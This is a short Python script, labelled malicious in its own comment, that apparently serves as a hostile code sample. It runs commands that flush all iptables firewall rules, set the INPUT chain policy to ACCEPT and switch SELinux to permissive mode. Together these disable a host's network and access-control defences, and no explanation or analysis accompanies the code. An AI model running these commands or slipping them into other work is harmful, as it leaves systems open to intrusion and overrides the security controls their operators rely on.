# Malicious: flushes the firewall and switches SELinux to permissive; disables host defences.
import subprocess

subprocess.run(["iptables", "-F"])
subprocess.run(["iptables", "-P", "INPUT", "ACCEPT"])
subprocess.run(["setenforce", "0"])
